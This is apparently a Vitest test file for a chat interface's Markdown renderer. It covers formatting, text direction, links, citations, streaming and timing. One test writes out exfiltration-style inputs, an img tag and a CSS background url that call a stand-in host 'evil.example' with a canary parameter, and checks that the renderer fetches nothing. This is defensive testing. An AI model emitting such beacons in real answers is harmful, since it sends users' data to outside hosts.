// @vitest-environment happy-dom

import { afterEach, expect, test, vi } from 'vitest'
import { HOSTILE, IMAGES, LINKS } from '@/components/chat/testing/hostile-markdown'
import { cpuMs } from '@/lib/graph/testing/cpu-ms'
import { h } from '../../element'
import { MarkdownView } from './render-markdown'

function render(markdown: string, citation?: (number: number) => Node | null): HTMLElement {
  const view = new MarkdownView(citation ? { citation } : {})
  view.update(markdown)
  return view.element
}

const html = (markdown: string) => render(markdown).innerHTML.replaceAll(' dir="auto"', '')

afterEach(() => vi.restoreAllMocks())

test('renders the Markdown that models write', () => {
  expect(html('A **bold**, *slanted*, ~~gone~~ and `code` word')).toBe(
    '<p>A <strong>bold</strong>, <em>slanted</em>, <del>gone</del> and <code>code</code> word</p>',
  )
  expect(html('# One\n\n## Two')).toBe('<h3>One</h3><h4>Two</h4>')
  expect(html('- a\n- b\n  - c')).toBe('<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>')
  expect(html('2. a\n3. b')).toBe('<ol start="2"><li>a</li><li>b</li></ol>')
  expect(html('> quoted\n> twice')).toBe('<blockquote><p>quoted<br>twice</p></blockquote>')
  expect(html('a\n\n---\n\nb')).toBe('<p>a</p><hr><p>b</p>')
  expect(render('```js\nlet a = "<b>"\n```').querySelector('pre')?.textContent).toBe('let a = "<b>"')
  expect(render('|a|b|\n|-|-|\n|1|2|').querySelectorAll('td')).toHaveLength(2)
})

test('lists and tables use the direction of their text, and columns their alignment', () => {
  const element = render('1. \u0623\u0648\u0644\u064b\u0627\n\n|a|b|c|\n|:-|-:|:-:|\n|1|2|3|')
  const [list, table] = element.children
  expect([list?.getAttribute('dir'), list?.querySelector('[dir]')]).toEqual(['auto', null])
  expect([table?.getAttribute('dir'), table?.querySelector('[dir]')]).toEqual(['auto', null])
  expect([...element.querySelectorAll('td')].map((cell) => cell.getAttribute('align'))).toEqual([
    null,
    'right',
    'center',
  ])
})

test('keeps text that only resembles Markdown', () => {
  expect(html('file_name_2 and 2 * 3 * 4 and \\*stars\\*')).toBe('<p>file_name_2 and 2 * 3 * 4 and *stars*</p>')
  expect(html('**open and `open')).toBe('<p>**open and `open</p>')
})

test.each(LINKS)('%s is a link', (markdown, href) => {
  expect(render(markdown).querySelector('a')?.getAttribute('href')).toBe(href)
})

test('opens links in a new tab', () => {
  const link = render('[ok](https://example.com/a?b=1 "title")').querySelector('a')
  expect(link?.getAttribute('href')).toBe('https://example.com/a?b=1')
  expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow')
  expect(link?.getAttribute('target')).toBe('_blank')
  expect(render('see https://example.com/a_b, and <mailto:a@example.com>').querySelectorAll('a')).toHaveLength(2)
})

test('hostile answers produce neither markup nor links', () => {
  for (const markdown of HOSTILE) {
    const element = render(markdown)
    expect(element.querySelector('script, img, svg, iframe, a, b, style, link'), markdown).toBeNull()
    for (const node of element.querySelectorAll('*'))
      expect([...node.attributes].some((attribute) => attribute.name.startsWith('on'))).toBe(false)
  }
})

test('images in an answer cause no request and show their description', () => {
  const fetched = vi.spyOn(globalThis, 'fetch')
  const html = [
    '<img src="https://evil.example/?d=CANARY">',
    '<div style="background:url(https://evil.example)">a</div>',
  ]
  for (const markdown of [...IMAGES, ...html]) {
    const element = render(markdown)
    expect(element.querySelector('img, picture, video, audio, [src], [style], [srcset]'), markdown).toBeNull()
    expect(element.textContent).toContain('a')
  }
  expect(fetched).not.toHaveBeenCalled()
})

test('numbers in brackets become markers if they are citations', () => {
  const element = render('Yes.[1] No.[2]', (number) => (number === 1 ? h('button', {}, '1') : null))
  expect(element.querySelectorAll('button')).toHaveLength(1)
  expect(element.textContent).toBe('Yes.1 No.[2]')
})

test('a citation stays on the line of its word, and the full stop on that of the citation', () => {
  const element = render('Two weeks [1]. More.', () => h('button', {}, '1'))
  expect(element.querySelector('.cited')?.textContent).toBe('1.')
  expect(element.textContent).toBe('Two weeks\u00a01. More.')
})

test('streaming text keeps the nodes of finished blocks', () => {
  const view = new MarkdownView({})
  view.update('First\n\nSec')
  const first = view.element.firstElementChild
  view.update('First\n\nSecond\n\n- item')
  expect(view.element.firstElementChild).toBe(first)
  expect(view.element.textContent).toBe('FirstSeconditem')
  view.update('Again')
  expect(view.element.textContent).toBe('Again')
})

test('nested and unclosed markers do not cause quadratic time', () => {
  const texts = [
    '*'.repeat(20_000),
    '['.repeat(20_000),
    '> '.repeat(5_000),
    '`'.repeat(19_999),
    '_a'.repeat(10_000),
    '![a]('.repeat(4_000),
    '| '.repeat(8_000),
  ]
  for (const text of texts)
    expect([text.slice(0, 5), cpuMs(() => render(text)) < 2_000]).toEqual([text.slice(0, 5), true])
})

test('adjacent citations and their full stop stay on one line', () => {
  const element = render('Two weeks [1][2][3]. More [4](https://example.com).', (number) =>
    number === 3 ? null : h('button', {}, String(number)),
  )
  expect(element.querySelector('.cited')?.textContent).toBe('12')
  expect(element.querySelectorAll('button')).toHaveLength(2)
  expect(element.textContent).toBe('Two weeks\u00a012[3]. More 4.')
  const all = render('Two weeks [1][2]. More.', (number) => h('button', {}, String(number)))
  expect(all.querySelector('.cited')?.textContent).toBe('12.')
})
